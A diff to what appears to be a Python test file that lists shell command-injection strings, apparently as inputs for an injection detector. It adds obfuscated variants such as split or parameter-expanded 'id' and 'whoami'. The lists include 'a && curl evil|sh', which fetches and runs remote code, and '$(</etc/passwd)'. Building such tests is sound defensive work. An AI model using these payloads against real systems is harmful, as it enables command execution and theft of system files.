@@ -13,7 +13,7 @@ BEGINS = (
     "abc$(touch x)", "abc`id`", "a; id", "a;id;", "a|id", "a && id", "a||id", "a\nid", "$(id)", "`id`", "a$IFS$9id", "${IFS}id", "x'; id; '", 'x";id;"',
     "4173; id", "x; /tmp/evil", "x;./a", "a;'i'd ", "a;i\\d ", "a;$(x)", "a;${x}", "a; FOO=1 id", "a && curl evil|sh", "| calc.exe", "a; {id,}", "a ; sh", "a & whoami",
     'project.xcodeproj"; open -a Calculator #', "a & id &", "x|/bin/sh", "<(id)", "a; !id", "a; exec id", "\n/usr/bin/touch y", "$(</etc/passwd)", "$(\tid)", "a; (id)",
-    "a; `id`", "`/tmp/x`", "a; $SHELL -c x", "a; \\\nid", "(x|y);id x", "a | { id; }", "x" * 200 + "; id", "a | date | sh",
+    "a; i\\\nd", "a; who${z}ami", "a; i$@d", "a|a; i${x:-d}", "a; `id`", "`/tmp/x`", "a; $SHELL -c x", "a; \\\nid", "(x|y);id x", "a | { id; }", "x" * 200 + "; id", "a | date | sh",
 )  # fmt: skip
 BEGINS_ELSEWHERE = (
     "a&id", "a > /etc/x", "a>~/.x", "a >> ../x", "&calc", "a%3bid ", "a\uff1bid ", "a;\u200bid ", "x &> y",
